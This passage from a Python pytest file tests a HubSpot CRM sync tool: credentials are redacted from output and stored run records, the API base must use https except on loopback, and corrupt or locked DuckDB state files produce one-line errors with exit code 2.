    for text in [output, audit, *(str(value) for row in stored for value in row)]:
        assert TOKEN not in text
    assert "Bearer [redacted]" in output
    assert all("Bearer [redacted]" in row[2] for row in stored[:3])


def test_credentials_in_the_api_base_are_neither_printed_nor_stored(
    project: MiniProject,
    stub: HubSpotStub,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    host = stub.base_url.removeprefix("http://")
    monkeypatch.setenv("HUBSPOT_API_BASE", f"http://svc:pw-in-url-99@{host}/?hapikey=key-in-url-77")
    outputs = [project.cli(capsys, "sync", "--dry-run")[1]]
    code, output = project.cli(capsys, "sync")
    assert code == 3, output
    outputs += [output, project.cli(capsys, "audit")[1]]
    stored = project.query("select destination, summary from crm_sync_runs")
    assert stored
    assert "http://[redacted]@" in stored[0][0]
    for text in [*outputs, *(str(value) for row in stored for value in row)]:
        assert "pw-in-url-99" not in text
        assert "key-in-url-77" not in text
    assert f"hubspot:http://[redacted]@{host}/?hapikey=[redacted]" in outputs[0]


# --- https only ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://api.hubapi.com", True),
        ("HTTPS://api.hubapi.com/", True),
        ("http://localhost:8080", True),
        ("http://127.0.0.1:5000", True),
        ("http://127.8.9.1", True),
        ("http://[::1]:8080/", True),
        ("http://api.hubapi.com", False),
        ("http://10.0.0.1:8080", False),
        ("http://localhost.example.com", False),
        ("http://[::2]:8080", False),
        ("ftp://api.hubapi.com", False),
        ("api.hubapi.com", False),
        ("https://", False),
    ],
)
def test_the_api_base_must_be_https_except_on_loopback(url: str, allowed: bool) -> None:
    from customer_health.crm_sync.hubspot import ApiBaseError, check_api_base

    if allowed:
        check_api_base(url)
    else:
        with pytest.raises(ApiBaseError):
            check_api_base(url)


@pytest.mark.parametrize(
    "argv",
    [["sync"], ["sync", "--dry-run"], ["properties", "--apply"]],
    ids=["sync", "dry-run", "properties"],
)
def test_plain_http_to_another_host_is_refused_before_anything_is_sent(
    project: MiniProject,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    argv: list[str],
) -> None:
    monkeypatch.setenv("HUBSPOT_API_BASE", "http://crm.example.invalid")
    code, output = project.cli(capsys, *argv, "--max-attempts", "1", "--timeout", "1")
    assert code == 2, output
    assert "HUBSPOT_API_BASE must be an https URL" in one_line(output)
    assert not project.state.exists()


# --- the state file --------------------------------------------------------------------------

STATE_COMMANDS = [["sync", "--file", "out.csv"], ["sync", "--dry-run"], ["audit"]]
STATE_IDS = ["sync", "dry-run", "audit"]


def run_state_command(
    project: MiniProject, capsys: pytest.CaptureFixture[str], argv: list[str]
) -> str:
    argv = [str(project.root / arg) if arg == "out.csv" else arg for arg in argv]
    code, output = project.cli(capsys, *argv)
    assert code == 2, output
    line = one_line(output)
    assert str(project.state) in line
    assert not (project.root / "out.csv").exists()
    return line


@pytest.mark.parametrize("argv", STATE_COMMANDS, ids=STATE_IDS)
@pytest.mark.parametrize("kind", ["not-duckdb", "foreign-tables"])
def test_a_corrupt_state_file_is_one_line_naming_it_and_exit_2(
    project: MiniProject, capsys: pytest.CaptureFixture[str], argv: list[str], kind: str
) -> None:
    import duckdb

    if kind == "not-duckdb":
        project.state.write_bytes(b"\x00garbage, not a database\n" * 500)
    else:
        with duckdb.connect(str(project.state)) as con:
            con.execute("create table crm_sync_state (x integer)")
            con.execute("create table crm_sync_runs (x integer)")
    line = run_state_command(project, capsys, argv)
    assert ("not a DuckDB database file" if kind == "not-duckdb" else "not a sync state table") in (
        line
    )


@pytest.fixture
def locked_state(project: MiniProject) -> Iterator[MiniProject]:
    """Another process holds the state file open for writing."""
    import subprocess
    import sys

    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import duckdb, sys, time; con = duckdb.connect(sys.argv[1]); "
            "print('ready', flush=True); time.sleep(120)",
            str(project.state),
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout is not None
        assert holder.stdout.readline().strip() == "ready"
        yield project
    finally:
        holder.kill()
        holder.wait(timeout=30)


@pytest.mark.parametrize("argv", STATE_COMMANDS, ids=STATE_IDS)
def test_a_locked_state_file_is_one_line_naming_it_and_exit_2(
    locked_state: MiniProject, capsys: pytest.CaptureFixture[str], argv: list[str]
) -> None:
    line = run_state_command(locked_state, capsys, argv)
    assert "locked by another process" in line
